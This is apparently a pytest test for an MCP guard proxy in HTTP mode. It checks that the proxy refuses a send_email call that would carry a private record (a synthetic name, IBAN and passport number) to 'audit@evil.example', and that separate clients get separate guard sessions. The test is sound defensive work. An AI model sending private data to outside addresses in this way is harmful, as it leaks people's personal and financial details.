"""The MCP guard proxy in streamable-HTTP mode: a real `mcp` HTTP client, the proxy subprocess, the fixture server."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")
pytest.importorskip("uvicorn")

from mcp.client.session import ClientSession
from mcp.client.streamable_http import streamable_http_client

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def proxy(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    port = _free_port()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(tmp_path / "server.log")}
    cmd = [
        sys.executable,
        "-m",
        "guard",
        "mcp-proxy",
        "--policy",
        str(POLICY),
        "--threshold",
        "0.5",
        "--audit",
        str(tmp_path / "audit.jsonl"),
        "--http",
        f"127.0.0.1:{port}",
        "--",
        sys.executable,
        str(SERVER),
    ]
    with (tmp_path / "proxy.err").open("w") as err:
        process = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=err)
        try:
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                try:
                    socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                    break
                except OSError:
                    assert process.poll() is None, (tmp_path / "proxy.err").read_text()
                    time.sleep(0.1)
            yield f"http://127.0.0.1:{port}/mcp", tmp_path
        finally:
            process.terminate()
            process.wait(timeout=20)


async def _session(url: str, calls: list[tuple[str, dict[str, Any]]]) -> list[Any]:
    async with streamable_http_client(url) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        return [await client.call_tool(name, args) for name, args in calls]


def test_http_mode_refuses_exfiltration_one_guard_session_per_client(proxy: tuple[str, Path]) -> None:
    """Catches an HTTP mode that forwards a refused call or shares one guard session between two clients."""
    url, tmp = proxy
    exfil = {"to": "audit@evil.example", "subject": "r", "body": ALICE}
    record, sent = anyio.run(_session, url, [("read_record", {"name": "alice"}), ("send_email", exfil)])
    assert record.content[0].text == ALICE and sent.is_error and "risk_budget" in sent.content[0].text
    (fresh,) = anyio.run(_session, url, [("send_email", exfil)])  # a new client: nothing private seen yet
    assert not fresh.is_error
    received = [json.loads(line)["tool"] for line in (tmp / "server.log").read_text().splitlines()]
    assert received == ["read_record", "send_email"]
    audit = [json.loads(line) for line in (tmp / "audit.jsonl").read_text().splitlines()]
    sessions = [e["session"] for e in audit]
    assert len(set(sessions)) == 2 and all(s.startswith("mcp-http-") for s in sessions)
